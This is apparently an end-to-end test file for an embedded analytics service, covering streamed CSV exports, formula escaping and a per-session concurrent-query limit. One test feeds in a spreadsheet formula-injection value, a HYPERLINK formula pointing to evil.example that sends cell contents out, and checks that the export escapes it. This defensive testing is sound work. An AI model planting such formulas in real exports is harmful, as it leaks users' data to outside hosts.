import { randomBytes } from "node:crypto";
import { csvLine } from "@embed/contracts";
import { signGuestEmbedToken } from "@embed/node";
import { generateSampleWarehouse } from "@embed/sample-data";
import { createScratchPostgres, type ScratchPostgres } from "@embed/testing/scratch-postgres";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { removeDataDirs, startAnalyticsInstance } from "./support/analytics-instance";
import { adminToken, api, type ErrorBody } from "./support/api";
import { identitySession } from "./support/identities";

/**
 * Server CSV exports over real HTTP — streamed, the card's own rows, spreadsheet formulas
 * escaped — and the per-session limit on heavy queries.
 */
const analyticsUrl = inject("analyticsUrl");
const DEMO_DASHBOARD_ID = 1;
const run = Date.now();

type Result = {
  columns: Array<{ name: string; displayName: string }>;
  rows: unknown[][];
  rowCount: number;
};
type Dashboard = { id: number; cards: Array<{ id: number; cardId: number; title: string }> };

const exportOf = (dashboardId: number, dashcardId: number, token: string) =>
  fetch(`${analyticsUrl}/api/dashboard/${dashboardId}/cards/${dashcardId}/export?format=csv`, {
    headers: { authorization: `Bearer ${token}` },
  });

describe("CSV exports", () => {
  let admin: string;
  const created = { cards: [] as number[], dashboards: [] as number[] };

  beforeAll(async () => {
    admin = await adminToken();
  });
  afterAll(async () => {
    for (const id of created.dashboards) {
      await api(`/api/admin/dashboards/${id}`, { method: "DELETE", token: admin });
    }
    for (const id of created.cards) {
      await api(`/api/admin/cards/${id}`, { method: "DELETE", token: admin });
    }
  });

  it("stream exactly the rows each demo card's query returns", async () => {
    const tenant = await identitySession("tenant999");
    const dashboard = await api<Dashboard>(`/api/dashboard/${DEMO_DASHBOARD_ID}`, {
      token: tenant,
    });
    for (const card of dashboard.json.cards) {
      const shown = await api<Result>(
        `/api/dashboard/${DEMO_DASHBOARD_ID}/cards/${card.id}/query`,
        { token: tenant, body: { parameters: {} } },
      );
      const response = await exportOf(DEMO_DASHBOARD_ID, card.id, tenant);
      expect(response.status).toBe(200);
      // Streamed: chunked, no length known up front, and the cap it was read under.
      expect(response.headers.get("content-type")).toContain("text/csv");
      expect(response.headers.get("content-length")).toBeNull();
      expect(response.headers.get("x-embed-row-limit")).toMatch(/^\d+$/);
      expect(response.headers.get("cache-control")).toContain("no-store");
      const expected =
        csvLine(shown.json.columns.map((column) => column.displayName)) +
        shown.json.rows.map((row) => csvLine(row)).join("");
      expect(await response.text(), card.title).toBe(expected);
    }
  });

  it("escape spreadsheet formulas in values and headers, and keep numbers numbers", async () => {
    const { json: source } = await api<{ dataSourceId: number }>(
      `/api/card/${(await api<Dashboard>(`/api/dashboard/${DEMO_DASHBOARD_ID}`, { token: admin })).json.cards[0]?.cardId}`,
      { token: admin },
    );
    // The attack: a warehouse value that is a formula, a column whose name starts with @.
    const card = await api<{ id: number } & ErrorBody>("/api/admin/cards", {
      token: admin,
      body: {
        name: `Formula attack ${run}`,
        display: "table",
        dataSourceId: source.dataSourceId,
        queryKind: "native",
        query: {
          sql: `SELECT '=HYPERLINK("http://evil.example/?d="&A1,"Open")' AS "@owner", -5 AS delta, '+1 555 0100' AS phone, 'tab' || chr(9) AS note, '-12.5' AS amount_text`,
        },
      },
    });
    expect(card.status).toBe(201);
    created.cards.push(card.json.id);
    const dashboard = await api<Dashboard & ErrorBody>("/api/admin/dashboards", {
      token: admin,
      body: { name: `Export attack ${run}` },
    });
    expect(dashboard.status).toBe(201);
    created.dashboards.push(dashboard.json.id);
    const placed = await api<Dashboard>(`/api/admin/dashboards/${dashboard.json.id}/cards`, {
      method: "PUT",
      token: admin,
      body: [{ cardId: card.json.id, x: 0, y: 0, w: 12, h: 6 }],
    });
    expect(placed.status).toBe(200);
    const dashcard = placed.json.cards[0]?.id as number;

    const response = await exportOf(dashboard.json.id, dashcard, admin);
    expect(response.status).toBe(200);
    const [header, row] = (await response.text()).split("\r\n");
    expect(header).toBe("'@owner,delta,phone,note,amount_text");
    expect(row).toBe(
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")",-5,'+1 555 0100,tab\t,-12.5`,
    );
  });
});

describe("the heavy-query limit, per session", () => {
  const guestSecret = randomBytes(32).toString("base64url");
  let warehouse: ScratchPostgres;
  let server: Awaited<ReturnType<typeof startAnalyticsInstance>>;
  let url: string;
  let adminSession: string;

  beforeAll(async () => {
    warehouse = await createScratchPostgres("e2e-query-limit-warehouse");
    await generateSampleWarehouse({ databaseUrl: warehouse.url });
    server = await startAnalyticsInstance({
      WAREHOUSE_URL: warehouse.url,
      EMBED_SEED_DEMO: "true",
      EMBED_GUEST_EMBED_SECRET: guestSecret,
      EMBED_JWT_SHARED_SECRET: randomBytes(32).toString("base64url"),
      EMBED_ENCRYPTION_KEY: randomBytes(32).toString("base64url"),
      EMBED_ADMIN_EMAIL: adminCredentials.email,
      EMBED_ADMIN_PASSWORD: adminCredentials.password,
    });
    url = server.url;
    const login = await fetch(`${url}/api/session/password`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify(adminCredentials),
    });
    const { sessionToken } = (await login.json()) as { sessionToken: string };
    adminSession = sessionToken;
    const patched = await fetch(`${url}/api/admin/settings`, {
      method: "PATCH",
      headers: { "content-type": "application/json", authorization: `Bearer ${sessionToken}` },
      body: JSON.stringify({ maxConcurrentQueries: LIMIT }),
    });
    expect(patched.status).toBe(200);
  }, 180_000);
  afterAll(async () => {
    await server?.stop();
    await warehouse?.teardown();
    removeDataDirs();
  });

  /** `maxConcurrentQueries`, set by the admin API below. */
  const LIMIT = 3;
  const adminCredentials = {
    email: "admin@limits.test",
    password: randomBytes(12).toString("base64url"),
  };

  it("refuses one query over the limit for one guest with 429 too_many_queries; another guest is unaffected", async () => {
    const guest = (account: number) =>
      signGuestEmbedToken(
        {
          resource: { dashboard: DEMO_DASHBOARD_ID },
          params: { account_id: account },
          exp: Math.floor(Date.now() / 1000) + 600,
        },
        guestSecret,
      );
    const [first, second] = [await guest(4), await guest(5)];
    const dashboard = (await (await fetch(`${url}/api/embed/dashboard/${first}`)).json()) as {
      cards: Array<{ id: number }>;
    };
    const dashcard = dashboard.cards.find((card) => card.id)?.id;
    const query = (token: string, status: string) =>
      fetch(`${url}/api/embed/dashboard/${token}/cards/${dashcard}/query`, {
        method: "POST",
        headers: { "content-type": "application/json" },
        // A different filter value each time: every one is a cache miss, a heavy query.
        body: JSON.stringify({ parameters: { status } }),
      });

    // Every query of the demo reads orders or accounts: while this transaction holds them, the
    // queries wait in the warehouse, holding their slots — no timing involved.
    const lock = new pg.Client({ connectionString: warehouse.url });
    await lock.connect();
    try {
      await lock.query("BEGIN");
      await lock.query("LOCK TABLE orders, accounts IN ACCESS EXCLUSIVE MODE");
      const pending = Array.from({ length: LIMIT + 1 }, (_, i) => query(first, `status ${i}`));
      const refused = await Promise.race(pending);
      expect(refused.status).toBe(429);
      expect(refused.headers.get("retry-after")).toMatch(/^\d+$/);
      expect(((await refused.json()) as ErrorBody).error.code).toBe("too_many_queries");
      // Sent while the first guest holds all its slots: not refused, it waits its turn.
      const other = query(second, "delivered");
      await lock.query("ROLLBACK");
      const answered = await Promise.all([...pending, other]);
      const statuses = answered.map((response) => response.status);
      expect(statuses.filter((status) => status === 429)).toHaveLength(1);
      expect(statuses.filter((status) => status === 200)).toHaveLength(LIMIT + 1);
      expect((await other).status).toBe(200);
    } finally {
      await lock.end();
    }
    // Slots are given back when queries end: the same guest may query again.
    expect((await query(first, "delivered")).status).toBe(200);
  }, 120_000);

  it("an export the client walks away from gives its slot back", async () => {
    const call = async <T>(path: string, method: string, body: unknown) => {
      const response = await fetch(`${url}${path}`, {
        method,
        headers: { "content-type": "application/json", authorization: `Bearer ${adminSession}` },
        body: JSON.stringify(body),
      });
      return (await response.json()) as T;
    };
    const demo = await fetch(`${url}/api/dashboard/${DEMO_DASHBOARD_ID}`, {
      headers: { authorization: `Bearer ${adminSession}` },
    });
    const cardId = ((await demo.json()) as Dashboard).cards[0]?.cardId;
    const source = await fetch(`${url}/api/card/${cardId}`, {
      headers: { authorization: `Bearer ${adminSession}` },
    });
    const { dataSourceId } = (await source.json()) as { dataSourceId: number };
    // Far more than fits in the socket buffers: the server is mid-stream when the client leaves.
    const card = await call<{ id: number }>("/api/admin/cards", "POST", {
      name: `Long export ${run}`,
      display: "table",
      dataSourceId,
      queryKind: "native",
      query: { sql: "SELECT g, md5(g::text) AS filler FROM generate_series(1, 100000) AS g" },
    });
    const dashboard = await call<Dashboard>("/api/admin/dashboards", "POST", {
      name: `Long export ${run}`,
    });
    const placed = await call<Dashboard>(`/api/admin/dashboards/${dashboard.id}/cards`, "PUT", [
      { cardId: card.id, x: 0, y: 0, w: 12, h: 6 },
    ]);
    const exportUrl = `${url}/api/dashboard/${dashboard.id}/cards/${placed.cards[0]?.id}/export?format=csv`;
    // More walked-away exports than slots: a leaked slot would make the last ones 429.
    for (let i = 0; i < LIMIT + 2; i++) {
      const controller = new AbortController();
      const response = await fetch(exportUrl, {
        headers: { authorization: `Bearer ${adminSession}` },
        signal: controller.signal,
      });
      expect(response.status).toBe(200);
      const reader = (response.body as ReadableStream<Uint8Array>).getReader();
      expect((await reader.read()).done).toBe(false);
      controller.abort();
      await reader.cancel().catch(() => undefined);
      // Released once the server has seen the connection close; a whole export proves it.
      let status = 429;
      for (let attempt = 0; attempt < 50 && status === 429; attempt++) {
        const whole = await fetch(exportUrl, {
          headers: { authorization: `Bearer ${adminSession}` },
        });
        status = whole.status;
        await whole.arrayBuffer();
        if (status === 429) await new Promise((resolve) => setTimeout(resolve, 200));
      }
      expect(status).toBe(200);
    }
  }, 180_000);
});
